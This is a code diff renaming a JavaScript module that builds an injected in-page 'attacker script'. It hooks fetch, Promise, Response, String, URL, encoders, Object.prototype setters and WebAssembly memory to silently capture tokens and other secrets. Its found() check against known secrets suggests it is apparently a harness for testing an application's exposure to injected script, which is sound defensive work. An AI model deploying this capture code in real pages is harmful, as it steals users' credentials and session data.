@@ -1,11 +1,11 @@
 /** A script that gets onto the page and tampers with the platform. Everything here runs in the page. */
 
 /**
- * Makes `window.thief`. `install()` tampers with everything at once, each way with a sack of its own; `look()` puts in what
- * is in the WebAssembly's memory, if a way leads there; `stop()` ends it all; `found(secrets)` tells which of these
- * `[name, text]` are in which sack. What the thief needs himself he takes before he tampers.
+ * Makes `window.attackerScript`. `install()` tampers with everything at once, each way with a capture of its own; `look()` adds what
+ * is in the WebAssembly's memory, if it can be reached; `stop()` ends it all; `found(secrets)` returns which of these
+ * `[name, text]` are in which capture. The script saves the functions that it needs before it tampers.
  */
-export function makeThief() {
+export function makeAttackerScript() {
   const { apply, construct, ownKeys, getOwnPropertyDescriptor, defineProperty } = Reflect;
   const { then } = Promise.prototype;
   const { clone, text } = Response.prototype;
@@ -21,8 +21,8 @@ export function makeThief() {
     for (let at = 0; at < length; at++) written += fromCharCode(bytes[at]);
     return written;
   };
-  const sacks = {};
-  /** While the thief is at work itself, nothing is tampered with. */
+  const captures = {};
+  /** While the script itself is at work, nothing is captured. */
   let busy = false;
 
   const quietly = (work) => {
@@ -31,33 +31,37 @@ export function makeThief() {
     try {
       work();
     } catch {
-      // A thief makes no noise.
+      // The page must not notice.
     } finally {
       busy = false;
     }
   };
 
-  function put(sack, value, depth, seen) {
-    if (typeof value === "string") return void sack.texts.add(value);
+  function put(capture, value, depth, seen) {
+    if (typeof value === "string") return void capture.texts.add(value);
     if (typeof value !== "object" || value === null || depth > 5 || seen.has(value)) return;
     seen.add(value);
-    const more = (inner) => put(sack, inner, depth + 1, seen);
-    if (value instanceof Promise) return void apply(then, value, [(v) => note(sack, v), () => {}]);
-    if (value instanceof Memory) return void sack.memories.add(value);
+    const more = (inner) => put(capture, inner, depth + 1, seen);
+    if (value instanceof Promise)
+      return void apply(then, value, [(v) => note(capture, v), () => {}]);
+    if (value instanceof Memory) return void capture.memories.add(value);
     if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) {
       const view = ArrayBuffer.isView(value) ? value : undefined;
       const buffer = view?.buffer ?? /** @type {ArrayBuffer} */ (value);
       // Only the WebAssembly's memory is as large.
-      if (buffer.byteLength > 1_000_000) return void sack.buffers.add(buffer);
+      if (buffer.byteLength > 1_000_000) return void capture.buffers.add(buffer);
       const bytes = decode(buffer, view?.byteOffset, value.byteLength);
-      sack.texts.add(bytes);
+      capture.texts.add(bytes);
       // Random bytes, as they are written: base64url.
-      sack.texts.add(btoa(bytes).replaceAll("+", "-").replaceAll("/", "_"));
+      capture.texts.add(btoa(bytes).replaceAll("+", "-").replaceAll("/", "_"));
       return;
     }
     if (value instanceof Response) {
       if (value.bodyUsed) return;
-      void apply(then, apply(text, apply(clone, value, []), []), [(v) => note(sack, v), () => {}]);
+      void apply(then, apply(text, apply(clone, value, []), []), [
+        (v) => note(capture, v),
+        () => {},
+      ]);
       return;
     }
     if (value instanceof Request) return void [value.url, value.headers].forEach(more);
@@ -66,26 +70,26 @@ export function makeThief() {
     if (value instanceof WebAssembly.Instance) return void more(value.exports);
     for (const key of ownKeys(value)) more(getOwnPropertyDescriptor(value, key)?.value);
   }
-  const note = (sack, ...values) =>
+  const note = (capture, ...values) =>
     quietly(() => {
-      for (const value of values) put(sack, value, 0, new Set());
+      for (const value of values) put(capture, value, 0, new Set());
     });
 
-  /** A function that does what it did, and lets the thief see its object, arguments and result. */
-  function hook(sack, owner, key) {
+  /** Makes a function do what it did, and captures its object, arguments and result. */
+  function hook(capture, owner, key) {
     const original = getOwnPropertyDescriptor(owner, key)?.value;
     if (typeof original !== "function") return;
     const tampered = new Proxy(original, {
       apply(target, self, args) {
-        note(sack, self, args);
+        note(capture, self, args);
         const result = apply(target, self, args);
-        note(sack, result);
+        note(capture, result);
         return result;
       },
       construct(target, args, newTarget) {
-        note(sack, args);
+        note(capture, args);
         const result = construct(target, args, newTarget === tampered ? target : newTarget);
-        note(sack, result);
+        note(capture, result);
         return result;
       },
     });
@@ -93,24 +97,24 @@ export function makeThief() {
   }
   const hooks =
     (owner, ...keys) =>
-    (sack) => {
-      for (const key of keys) hook(sack, owner, key);
+    (capture) => {
+      for (const key of keys) hook(capture, owner, key);
     };
 
   /** Values that pass through a callback. */
-  const overheard = (sack, callback) =>
+  const recorded = (capture, callback) =>
     typeof callback !== "function"
       ? callback
       : (value) => {
-          note(sack, value);
+          note(capture, value);
           return callback(value);
         };
 
   const tamperings = {
     "`fetch`": hooks(window, "fetch"),
-    "`Request`, `Headers.prototype.set`": (sack) => {
-      hook(sack, window, "Request");
-      hook(sack, Headers.prototype, "set");
+    "`Request`, `Headers.prototype.set`": (capture) => {
+      hook(capture, window, "Request");
+      hook(capture, Headers.prototype, "set");
     },
     "`Response.prototype.text`, `json`, `arrayBuffer`": hooks(
       Response.prototype,
@@ -120,16 +124,16 @@ export function makeThief() {
       ReadableStreamDefaultReader.prototype,
       "read",
     ),
-    "`Promise.prototype.then`": (sack) => {
+    "`Promise.prototype.then`": (capture) => {
       // biome-ignore lint/suspicious/noThenProperty: that is the tampering
       Promise.prototype.then = function (fulfilled, rejected) {
-        return apply(then, this, [overheard(sack, fulfilled), rejected]);
+        return apply(then, this, [recorded(capture, fulfilled), rejected]);
       };
     },
-    "`Promise`": (sack) => {
+    "`Promise`": (capture) => {
       const tampered = new Proxy(Promise, {
         construct(target, [executor], newTarget) {
-          const spy = (resolve, reject) => executor(overheard(sack, resolve), reject);
+          const spy = (resolve, reject) => executor(recorded(capture, resolve), reject);
           return construct(target, [spy], newTarget === tampered ? target : newTarget);
         },
       });
@@ -142,13 +146,13 @@ export function makeThief() {
       ...ownKeys(String.prototype).filter((key) => key !== "constructor"),
     ),
     "`URL`": hooks(window, "URL"),
-    "setters on `Object.prototype`": (sack) => {
+    "setters on `Object.prototype`": (capture) => {
       for (const key of ["body", "headers", "user", "claims", "url", "access_token"]) {
         defineProperty(Object.prototype, key, {
           configurable: true,
           get: () => undefined,
           set(value) {
-            note(sack, value);
+            note(capture, value);
             defineProperty(this, key, {
               ...{ value, configurable: true, enumerable: true, writable: true },
             });
@@ -165,11 +169,11 @@ export function makeThief() {
     "`TextEncoder.prototype.encode`": hooks(TextEncoder.prototype, "encode"),
     "`TextDecoder.prototype.decode`": hooks(TextDecoder.prototype, "decode"),
     "`Uint8Array`": hooks(window, "Uint8Array"),
-    "`WebAssembly.Memory.prototype.buffer`": (sack) => {
+    "`WebAssembly.Memory.prototype.buffer`": (capture) => {
       defineProperty(Memory.prototype, "buffer", {
         configurable: true,
         get() {
-          note(sack, this);
+          note(capture, this);
           return apply(/** @type {() => ArrayBuffer} */ (bufferOf), this, []);
         },
       });
@@ -180,17 +184,17 @@ export function makeThief() {
     ),
   };
 
-  window.thief = {
+  window.attackerScript = {
     install() {
       for (const [name, tamper] of Object.entries(tamperings)) {
-        sacks[name] = { texts: new Set(), memories: new Set(), buffers: new Set() };
-        tamper(sacks[name]);
+        captures[name] = { texts: new Set(), memories: new Set(), buffers: new Set() };
+        tamper(captures[name]);
       }
     },
     /** Empties out what was caught of the WebAssembly's memory, as it is now. */
     look() {
       quietly(() => {
-        for (const { texts, memories, buffers } of Object.values(sacks)) {
+        for (const { texts, memories, buffers } of Object.values(captures)) {
           const all = [
             ...buffers,
             ...[...memories].map((memory) =>
@@ -208,7 +212,7 @@ export function makeThief() {
     },
     found: (secrets) =>
       Object.fromEntries(
-        Object.entries(sacks).map(([name, { texts }]) => {
+        Object.entries(captures).map(([name, { texts }]) => {
           const all = [...texts].join("\n");
           const got = secrets.filter(([, value]) => all.includes(value)).map(([what]) => what);
           return [name, [...new Set(got)]];
